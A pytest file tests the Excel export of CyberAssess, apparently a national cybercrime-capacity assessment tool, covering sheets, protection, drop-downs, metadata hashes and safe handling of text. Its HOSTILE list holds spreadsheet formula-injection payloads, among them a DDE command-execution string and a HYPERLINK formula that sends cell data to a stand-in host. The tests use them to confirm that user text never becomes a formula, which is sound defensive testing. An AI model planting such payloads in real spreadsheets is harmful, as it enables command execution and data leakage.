"""The exported workbook: sheets, layout, protection, drop-downs, metadata hash, report log, safe text."""

from __future__ import annotations

import hashlib
import re
import sqlite3
import uuid
import zipfile
from pathlib import Path

import openpyxl
import pytest

from cyberassess.errors import DocumentError
from cyberassess.framework import builtin_framework
from cyberassess.matrix import MatrixError, export_blank, export_matrix, read_matrix
from cyberassess.matrix.layout import COLUMNS, MARKER, answer_cells, answers_sha256
from cyberassess.matrix.safety import excel_escape, excel_unescape, needs_quote_prefix
from cyberassess.store import Assessment

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


@pytest.fixture
def demo_matrix(demo_file: Path, tmp_path: Path) -> Path:
    with Assessment.open(demo_file) as doc:
        return export_matrix(doc, tmp_path / "demo.xlsx")


def _metadata(wb: openpyxl.Workbook) -> dict[str, object]:
    ws = next(ws for ws in wb.worksheets if ws["A1"].value == MARKER)
    return {row[0].value: row[1].value for row in ws.iter_rows(min_row=2) if row[0].value}


def test_sheets_in_order_with_the_hidden_lists_last(demo_matrix: Path) -> None:
    wb = openpyxl.load_workbook(demo_matrix)
    titles = wb.sheetnames
    assert titles[:2] == ["Cover", "Summary"] and titles[-2:] == ["Metadata", "Lists"]
    assert [t[:3] for t in titles[2:-5]] == [f"D{n} " for n in range(1, 10)]
    assert titles[-5:-2] == ["Mission", "Action plan", "Treaty table"]
    assert all(len(t) <= 31 and "\u2026" not in t and not t.endswith(" and") for t in titles)  # short and safe
    assert wb["Lists"].sheet_state == "hidden" and wb.security is not None and wb.security.lockStructure


def test_dimension_sheet_layout_protection_and_drop_downs(demo_matrix: Path) -> None:
    wb = openpyxl.load_workbook(demo_matrix)
    ws = wb.worksheets[2]
    assert ws.freeze_panes == "C3"
    assert [c.value for c in ws[2]][: len(COLUMNS)] == [c.header for c in COLUMNS]
    for index, column in enumerate(COLUMNS, start=1):
        letter = chr(64 + index)
        assert ws.column_dimensions[letter].width == column.width
        assert ws.column_dimensions[letter].hidden == bool(column.group)  # the groups start collapsed
    assert ws.protection.sheet and not ws.protection.password
    rows = [r[0].row for r in ws.iter_rows(min_row=3) if r[0].value and str(r[0].value).count(".") == 2]
    assert len(rows) == sum(1 for i in builtin_framework().indicator_ids() if i.startswith("D1."))
    first = rows[0]
    assert ws.cell(first, 1).protection.locked and ws.cell(first, 2).protection.locked
    for column in (3, 4, 5, 6):  # stage, justification, confidence, assessor: to be filled in
        assert not ws.cell(first, column).protection.locked
    assert ws.cell(first, 4).alignment.wrap_text
    assert re.fullmatch(r"[1-5] - \w[\w -]*", ws.cell(first, 3).value)
    validations = {dv.formula1: dv for dv in ws.data_validations.dataValidation}
    level = validations["'Lists'!$A$1:$A$7"]
    assert level.type == "list" and level.showErrorMessage and level.prompt
    assert all(f"C{r}" in level.sqref for r in rows)
    assert all(f"E{r}" in validations["'Lists'!$B$1:$B$3"].sqref for r in rows)
    choices = [wb["Lists"].cell(r, 1).value for r in range(1, 8)]
    assert choices[:2] == ["1 - Start-up", "2 - Formative"] and choices[5:] == [
        "N/A - Not applicable",
        "Unknown / no data",
    ]


def test_cover_summary_chart_and_metadata(demo_matrix: Path, demo_file: Path) -> None:
    wb = openpyxl.load_workbook(demo_matrix)
    cover_text = " ".join(str(c.value) for row in wb["Cover"].iter_rows() for c in row if c.value)
    with Assessment.open(demo_file, read_only=True) as doc:
        info, answers, fw = doc.info, doc.answers(), doc.framework
    for fact in (
        info.country,
        info.mission,
        info.file_uuid,
        f"cybercrime-capacity {fw.version}",
        "How to fill in and return",
    ):
        assert fact in cover_text
    assert "Amina Mensah" in cover_text and "import-xlsx" in cover_text
    summary = [[c.value for c in row] for row in wb["Summary"].iter_rows()]
    d5 = next(row for row in summary if row[0] == "D5")
    assert str(d5[2]).startswith("=IF(") and "SUMPRODUCT" in str(d5[9])  # live scores, see test_matrix_formulas
    with zipfile.ZipFile(demo_matrix) as archive:
        assert any(n.startswith("xl/charts/chart") for n in archive.namelist())
    meta = _metadata(wb)
    assert meta["kind"] == "assessment" and meta["framework_id"] == "cybercrime-capacity"
    assert meta["file_uuid"] == info.file_uuid and meta["sheet:D1"] == wb.sheetnames[2]
    expected = answers_sha256(fw, [answer_cells(i, a.value, a.justification, a.confidence) for i, a in answers.items()])
    assert meta["answers_sha256"] == expected == read_matrix(demo_matrix).computed_hash


def test_export_is_logged_with_its_hash_and_leaves_no_temporary_file(demo_file: Path, tmp_path: Path) -> None:
    with Assessment.open(demo_file) as doc:
        out = export_matrix(doc, tmp_path / "m.xlsx")
        log = doc.reports()[-1]
        assert (log.kind, log.file_name) == ("xlsx", "m.xlsx")
        assert log.sha256 == hashlib.sha256(out.read_bytes()).hexdigest()
        export_matrix(doc, out)  # replaced atomically
        assert len([r for r in doc.reports() if r.kind == "xlsx"]) == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["demo.cyberassess", "m.xlsx"]


def test_read_only_assessment_exports_without_logging(demo_file: Path, tmp_path: Path) -> None:
    with Assessment.open(demo_file, read_only=True) as doc:
        export_matrix(doc, tmp_path / "m.xlsx")
    with Assessment.open(demo_file, read_only=True) as doc:
        assert not [r for r in doc.reports() if r.kind == "xlsx"]


def test_bad_output_names_are_refused(mini_doc: Assessment, tmp_path: Path) -> None:
    with pytest.raises(MatrixError, match=r"\.xlsx"):
        export_matrix(mini_doc, tmp_path / "m.xlsm")
    with pytest.raises(DocumentError, match="does not exist"):
        export_matrix(mini_doc, tmp_path / "missing" / "m.xlsx")


def _behind_the_apps_back(doc: Assessment, statement: str, *params: object) -> None:
    """Write what CyberAssess refuses where text enters (control characters), as another program could."""
    conn = sqlite3.connect(doc.path)
    conn.execute(statement, params)
    conn.commit()
    conn.close()


def test_user_text_is_never_a_formula(mini_doc: Assessment, tmp_path: Path) -> None:
    ids = mini_doc.framework.indicator_ids()
    for n, text in enumerate(HOSTILE[: len(ids)]):
        mini_doc.set_answer(ids[n], 3)
        _behind_the_apps_back(
            mini_doc,
            "UPDATE answer SET justification = ?, assessor = ? WHERE indicator_id = ?",
            text,
            HOSTILE[-1 - n],
            ids[n],
        )
    mini_doc.update_info(country="=EVIL()", mission="@mission", assessors=["-Ada", "+Bo"])
    out = export_matrix(mini_doc, tmp_path / "m.xlsx")
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                if "<f>" in xml or "<f " in xml:  # only the helper column of the stage numbers and the Summary
                    formulas = re.findall(r'<c r="([A-Z]+)[0-9]+"[^>]*><f>', xml)
                    assert formulas and set(formulas) <= {"T"} | set("ABCDEFGHIJK"), name
    wb = openpyxl.load_workbook(out)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # the app's own formulas: stage numbers and the live scores
                    assert ws.title == "Summary" or cell.column_letter == "T", (ws.title, cell.coordinate)
                    assert not any(text in cell.value for text in HOSTILE), cell.coordinate
                    continue
                if isinstance(cell.value, str) and needs_quote_prefix(excel_unescape(cell.value)):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen += 1
    assert seen >= 2 * len(ids) + 3
    content = read_matrix(out)
    assert [r.justification for r in content.rows] == HOSTILE[: len(ids)]
    assert content.country == "=EVIL()"


def test_escapes_round_trip() -> None:
    for text in ("_x000D_", "_x005F_x0041_", "a\x00b\x1f", "\ufffe", "_xABCD\x01", "plain"):
        escaped = excel_escape(text)
        assert excel_unescape(escaped) == text
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", escaped)


def test_too_long_justification_is_exported_cut_with_a_marker(mini_doc: Assessment, tmp_path: Path) -> None:
    """CyberAssess refuses such a note where it enters; a file written by another program may still hold one."""
    mini_doc.set_answer("D1.1.1", 2)
    _behind_the_apps_back(mini_doc, "UPDATE answer SET justification = ?", "x" * 40_000)
    out = export_matrix(mini_doc, tmp_path / "m.xlsx")
    [row] = [r for r in read_matrix(out).rows if r.indicator_id == "D1.1.1"]
    assert len(row.justification) <= 20_000 and row.justification.startswith("x" * 19_000)
    assert row.justification.endswith("more characters not shown: the file holds more than CyberAssess stores]")


def test_blank_matrix(tmp_path: Path) -> None:
    out = export_blank(builtin_framework(), tmp_path / "blank.xlsx", language="ar")
    wb = openpyxl.load_workbook(out)
    assert len(wb.sheetnames) == 16  # cover, summary, 9 dimensions, mission, actions, treaty, metadata, lists
    meta = _metadata(wb)
    assert meta["kind"] == "template" and not meta.get("answers_sha256")
    assert uuid.UUID(str(meta["file_uuid"]))
    ws = wb.worksheets[2]
    assert ws.sheet_view.rightToLeft
    values = [r[2].value for r in ws.iter_rows(min_row=3) if r[0].value and str(r[0].value).count(".") == 2]
    assert values and all(v is None for v in values)
    assert read_matrix(out).hash_status == "template"
